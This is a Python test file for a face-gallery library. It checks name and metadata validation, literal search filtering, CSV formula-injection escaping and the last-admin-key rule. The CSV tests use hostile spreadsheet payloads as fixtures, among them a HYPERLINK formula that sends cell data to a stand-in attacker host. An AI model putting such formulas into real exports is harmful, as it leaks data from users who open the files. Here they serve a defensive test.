"""What the gallery refuses to store (names, metadata), the CSV exports' formula guard, the
literal name filter, and the last-admin rule under concurrent revocations."""

from __future__ import annotations

import csv
import io
import json
import threading

import pytest
from gallery_helpers import StoreSpec

from marginface.errors import ConflictError, GalleryError
from marginface.gallery.csvtext import csv_text, safe_cell
from marginface.gallery.validate import (
    MAX_METADATA_BYTES,
    MAX_METADATA_DEPTH,
    MAX_METADATA_KEYS,
    clean_name,
    metadata_json,
)


def _nested(depth: int) -> dict:
    value: object = 1
    for _ in range(depth - 1):
        value = [value]
    return {"d": value}


# -- names -----------------------------------------------------------------------------------------
def test_names_are_nfc_and_stripped() -> None:
    assert clean_name("  Zoe\u0301\u00a0") == "Zoé"
    assert clean_name("Ada Lovelace") == "Ada Lovelace"
    assert clean_name("محمد") == "محمد"  # right-to-left text needs no override characters
    assert clean_name("👩\u200d🔬 Marie") == "👩\u200d🔬 Marie"  # a joiner inside a visible name


@pytest.mark.parametrize(
    ("name", "problem"),
    [
        ("", "empty"),
        ("\u00a0 \u2003", "empty"),
        ("a\x00b", "control character"),
        ("line\nbreak", "control character"),
        ("tab\there", "control character"),
        ("\u200b\u200c\u2060", "no visible character"),
        ("\u0301\u0301", "no visible character"),
        ("\u202eevil", "bidirectional override"),
        ("Bob\u2066", "bidirectional override"),
        ("a\ud800", "surrogate"),
        ("x" * 201, "longer than 200"),
    ],
)
def test_bad_names_are_refused(name: str, problem: str) -> None:
    with pytest.raises(GalleryError, match=problem):
        clean_name(name)


# -- metadata --------------------------------------------------------------------------------------
def test_metadata_within_limits_is_kept_exactly() -> None:
    meta = {"team": "night", "badge": 7, "ratio": 0.5, "tags": ["a", None, True], "x": {"y": 1}}
    assert json.loads(metadata_json(meta)) == meta
    assert metadata_json(None) == "{}"
    metadata_json(_nested(MAX_METADATA_DEPTH - 1))


@pytest.mark.parametrize(
    ("meta", "problem"),
    [
        (_nested(500), "nested deeper"),
        (_nested(MAX_METADATA_DEPTH + 1), "nested deeper"),
        ({"n": float("nan")}, "finite"),
        ({"n": [float("inf")]}, "finite"),
        ({f"k{i}": i for i in range(MAX_METADATA_KEYS + 1)}, "keys"),
        ({"text": "x" * MAX_METADATA_BYTES}, "bytes"),
        ({"s": "\ud800"}, "surrogate"),
        ({"o": object()}, "not a JSON value"),
        ({1: "a"}, "keys must be text"),
        (["not", "an", "object"], "JSON object"),
    ],
)
def test_bad_metadata_is_refused(meta: object, problem: str) -> None:
    with pytest.raises(GalleryError, match=problem):
        metadata_json(meta)  # type: ignore[arg-type]


def test_a_refused_subject_leaves_nothing_and_listing_works(
    sqlite_store: StoreSpec, people
) -> None:
    g = sqlite_store.open()
    g.subjects.create("kept", {"a": 1})
    for name, meta in [("deep", _nested(500)), ("nan", {"n": float("nan")}), ("\x00", {})]:
        with pytest.raises(GalleryError):
            g.subjects.create(name, meta, embeddings=people.sample(0, 2))
    sid = g.subjects.list()[0].id
    with pytest.raises(GalleryError):
        g.subjects.update(sid, metadata=_nested(100))
    with pytest.raises(GalleryError):
        g.subjects.update(sid, name="\u202e")
    assert [(s.name, s.metadata) for s in g.subjects.list()] == [("kept", {"a": 1})]
    assert g.subjects.count_faces() == 0
    json.dumps(g.export())


# -- the name filter is literal --------------------------------------------------------------------
def test_name_filter_takes_percent_and_underscore_literally(sqlite_store: StoreSpec) -> None:
    g = sqlite_store.open()
    for name in ("Ann", "Bo_b", "100% Joe", "back\\slash"):
        g.subjects.create(name)
    assert [s.name for s in g.subjects.list(search="%")] == ["100% Joe"]
    assert [s.name for s in g.subjects.list(search="_")] == ["Bo_b"]
    assert [s.name for s in g.subjects.list(search="\\")] == ["back\\slash"]
    assert g.subjects.count(search="%") == 1 and g.subjects.count(search="n") == 1
    assert g.subjects.count() == 4


# -- CSV -------------------------------------------------------------------------------------------
@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1+2", "@SUM(1)", "\tx", "\rx"])
def test_formula_cells_are_neutralised(cell: str) -> None:
    assert safe_cell(cell) == "'" + cell


def test_plain_cells_and_numbers_are_unchanged() -> None:
    assert safe_cell("Ada") == "Ada" and safe_cell("a=b") == "a=b"
    assert safe_cell(-0.25) == -0.25 and safe_cell(3) == 3 and safe_cell(None) is None
    rows = list(csv.reader(io.StringIO(csv_text(["name", "score"], [["=cmd", -0.5]]))))
    assert rows == [["name", "score"], ["'=cmd", "-0.5"]]


def test_event_and_attendance_exports_are_neutralised(sqlite_store: StoreSpec, people) -> None:
    g = sqlite_store.open()
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    s = g.subjects.create(evil, embeddings=people.sample(0, 1))
    g.events.log("@SUM(1+1)*cmd", subject_id=s.id, score=-0.125, decision="match")
    events = list(csv.DictReader(io.StringIO(g.events.csv())))
    assert events[0]["source"] == "'@SUM(1+1)*cmd"
    assert events[0]["subject_name"] == "'" + evil
    assert events[0]["score"] == "-0.125"
    day = g.events.list()[0].time.astimezone().date()
    rows = list(csv.DictReader(io.StringIO(g.events.attendance_csv(day))))
    assert rows[0]["name"] == "'" + evil and rows[0]["sources"] == "'@SUM(1+1)*cmd"


def _revoke(g, key_id: str, barrier: threading.Barrier, outcomes: list[str]) -> None:
    barrier.wait()
    try:
        g.keys.delete(key_id)
        outcomes.append("revoked")
    except ConflictError:
        outcomes.append("refused")


# -- keys ------------------------------------------------------------------------------------------
@pytest.mark.parametrize("backend", ["sqlite", "postgresql"])
def test_concurrent_revocations_keep_one_admin_key(
    backend: str, request: pytest.FixtureRequest, tmp_path
) -> None:
    """Two connections revoke the two admin keys at the same moment: one must be refused."""
    from gallery_helpers import make_store

    spec = make_store(backend, "exact", tmp_path, request)
    try:
        setup = spec.open()
        a, _ = setup.keys.create("a", "admin")
        b, _ = setup.keys.create("b", "admin")
        for _round in range(5):
            galleries = [spec.open(), spec.open()]
            barrier = threading.Barrier(2)
            outcomes: list[str] = []
            threads = [
                threading.Thread(target=_revoke, args=(g, k.id, barrier, outcomes))
                for g, k in zip(galleries, (a, b), strict=True)
            ]
            for t in threads:
                t.start()
            for t in threads:
                t.join(timeout=60)
            assert sorted(outcomes) == ["refused", "revoked"]
            assert setup.keys.count("admin") == 1
            # put the revoked one back for the next round
            survivor = setup.keys.list()[0]
            a = survivor
            b, _ = setup.keys.create("b", "admin")
    finally:
        spec.close_all()


# -- driver errors ---------------------------------------------------------------------------------
def test_values_the_database_refuses_are_user_errors(store: StoreSpec) -> None:
    """A NUL in a PostgreSQL text value or a number beyond 64 bits is the caller's error (a
    GalleryError, never a driver exception), on every backend, and nothing is stored."""
    g = store.open()
    if store.backend == "sqlite":
        assert not g.subjects.exists("a\x00b")
    else:
        with pytest.raises(GalleryError, match="refused a value"):
            g.subjects.exists("a\x00b")
    with pytest.raises(GalleryError):
        g.subjects.get_face(2**70)
    g.subjects.create("kept")
    assert [s.name for s in g.subjects.list()] == ["kept"]


def test_an_index_failure_after_the_commit_is_not_an_error(
    sqlite_store: StoreSpec, people, monkeypatch
) -> None:
    """SQL is the truth: a write that committed succeeds even when the index then fails, and
    the next search reconciles the index from SQL."""
    g = sqlite_store.open()
    index = g.index

    def broken(*args, **kwargs):
        raise RuntimeError("index down")

    monkeypatch.setattr(index, "add", broken)
    subject = g.subjects.create("kept", embeddings=people.sample(0, 2))
    assert g.subjects.count_faces() == 2
    monkeypatch.undo()
    hits = g.search(people.sample(0, 1), k=2)[0]
    assert {h.subject_id for h in hits} == {subject.id} and len(hits) == 2
